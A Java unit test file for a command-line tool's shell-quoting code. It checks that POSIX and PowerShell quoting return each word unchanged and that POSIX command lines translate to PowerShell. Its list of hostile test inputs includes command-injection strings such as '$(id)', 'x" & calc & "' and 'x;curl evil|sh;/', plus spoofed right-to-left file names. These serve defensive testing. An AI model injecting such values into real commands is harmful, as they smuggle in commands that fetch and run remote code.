package dev.blobdrop.core.problem;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.blobdrop.commands.Run;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// A real shell returns quoted text unchanged and runs nothing in it.
@Timeout(60)
class ShellTest {
    private static final List<String> HOSTILE = List.of(
            "",
            " ",
            "-rf",
            "--",
            "--%",
            "@file",
            "@",
            "~",
            "~root/x",
            "=ls",
            "!!",
            "it's",
            "'",
            "''",
            "\"",
            "a\"b\"c d",
            "\\",
            "a\\",
            "a b\\",
            "a b\\\\\"",
            "C:\\Users\\A B\\",
            "\\\\server\\share\\",
            "$(id)",
            "$HOME",
            "${x}",
            "`id`",
            "%PATH%",
            "100%",
            "%s%n",
            "a;b",
            "a&b",
            "a|b",
            "a>b",
            "a,b",
            "1kb",
            "0x10",
            "#",
            "*",
            "?",
            "[a]",
            "{a,b}",
            "(a)",
            "^",
            "x\" & calc & \"",
            "x;curl evil|sh;/",
            "a\nb",
            "\n",
            "a\n\n",
            "a\tb",
            "a\rb",
            "\u001b[2J",
            "\u007f",
            "\u009b31m",
            "a\u202egpj.exe",
            "a\u200bb",
            "a\u2028b",
            "\ufeffx",
            "a\\u202Eb",
            "a\\134b",
            "\u2018$(id)\u2019",
            "\u201A\u201B",
            "\u201C$(id)\u201D\u201E",
            "\u00a0",
            "a\u3000b",
            "gr\u00fc\u00dfe \u65e5\u672c \uD83D\uDE00",
            "\uD83D\uDC68\u200D\uD83D\uDCBB.txt",
            "-\u202e!%'\\");

    private static final String ALPHABET =
            "ab1 '\"\\$`%!~-@#&|;<>(){}[]*?=,^.:/\n\t\u001b\u009b\u202e\u200b\u2018\u2019\u201A"
                    + "\u201C\u201D\u00a0\u00fc";

    private static List<String> words() {
        List<String> words = new ArrayList<>(HOSTILE);
        Random random = new Random(7);
        for (int i = 0; i < 400; i++) {
            StringBuilder word = new StringBuilder();
            random.ints(random.nextInt(9), 0, ALPHABET.length()).forEach(at -> word.append(ALPHABET.charAt(at)));
            words.add(word.toString());
        }
        return words;
    }

    @ParameterizedTest
    @ValueSource(strings = {"sh", "dash", "bash"})
    void realShellGivesBackWhatWasQuoted(String program) {
        Optional<String> shell = Run.find(program).map(Object::toString);
        assumeTrue(shell.isPresent(), program + " is not installed");
        List<String> words = words();
        StringBuilder script = new StringBuilder("set -eu\n");
        words.forEach(word -> script.append("printf '%s\\0' ")
                .append(Shell.POSIX.line(List.of("x", word, "y")))
                .append('\n'));

        Run run = Run.of(
                Duration.ofSeconds(50),
                Map.of("PATH", "/usr/bin:/bin", "LC_ALL", "C.UTF-8"),
                script.toString(),
                List.of(shell.get(), "-s"));

        assertThat(run.err()).isEmpty();
        List<String> back = Arrays.asList(run.out().split("\0", -1));
        List<String> expected = new ArrayList<>();
        words.forEach(word -> expected.addAll(List.of("x", word, "y")));
        assertThat(back.subList(0, back.size() - 1)).containsExactlyElementsOf(expected);
    }

    @ParameterizedTest
    @ValueSource(booleans = {true, false})
    void powerShellGivesTheProgramWhatWasQuoted(boolean old) {
        for (String word : words()) {
            List<String> line = List.of("blobdrop", "upload", "--to", word, "end");
            String quoted = Shell.POWERSHELL.line(line);
            assertThat(PowerShellWords.ofProgram(quoted, old)).as(quoted).isEqualTo(line);
        }
    }

    /// The line ends that stand at the end of a word are the one thing that has to be typed.
    @Test
    void whatIsQuotedCanBePrintedAsItIs() {
        for (String word : words()) {
            assertThat(Visible.of(Shell.POWERSHELL.quoted(word))).isEqualTo(Shell.POWERSHELL.quoted(word));
            if (!word.endsWith("\n")) {
                assertThat(Visible.of(Shell.POSIX.quoted(word))).isEqualTo(Shell.POSIX.quoted(word));
            }
        }
    }

    @Test
    void ordinaryWordsStandWithoutQuotes() {
        List<String> words = List.of("blobdrop", "ls", "--prefix", "2026/a-b_c.csv");
        assertThat(Shell.POSIX.line(words)).isEqualTo("blobdrop ls --prefix 2026/a-b_c.csv");
        assertThat(Shell.POWERSHELL.line(words)).isEqualTo("blobdrop ls --prefix '2026/a-b_c.csv'");
        assertThat(Shell.POWERSHELL.quoted("C:\\data\\a.csv")).isEqualTo("C:\\data\\a.csv");
    }

    @ParameterizedTest
    @CsvSource({"Windows 11,POWERSHELL", "windows,POWERSHELL", "Linux,POSIX", "Mac OS X,POSIX"})
    void shellFollowsTheSystem(String system, Shell shell) {
        assertThat(Shell.of(system)).isEqualTo(shell);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            value = {
                "export A_B=https://x.y:1/z ! $env:A_B = 'https://x.y:1/z'",
                "unset A_B ! Remove-Item Env:A_B",
                "az login ! az login",
                "curl 'https://x/y' ! curl.exe https://x/y",
                "kubectl get x | grep azure-wi ! kubectl get x | Select-String azure-wi",
                "kubectl set env pod/P --list > pod.env ! kubectl set env pod/P --list | Out-File"
                        + " -Encoding ascii pod.env",
                "blobdrop cat BLOB > FILE ! blobdrop cat BLOB > FILE",
                "az x --query \"[?id=='a' || b].{n:n}\" -o table ! az x --query '[?id==''a'' ||"
                        + " b].{n:n}' -o table",
                "az x --scope $(az y -n z -o tsv)/c/'$root' --all ! az x --scope \"$(az y -n z -o"
                        + " tsv)/c/`$root\" --all",
                "kubectl patch -p '{\"a\":1}' ! & { $PSNativeCommandArgumentPassing = 'Legacy';"
                        + " kubectl patch -p '\"{\\\"a\\\":1}\"' }",
            })
    void lineForAPosixShellIsTranslated(String posix, String powerShell) {
        assertThat(Shell.POWERSHELL.translated(posix)).isEqualTo(powerShell);
        assertThat(Shell.POSIX.translated(posix)).isEqualTo(posix);
    }
}
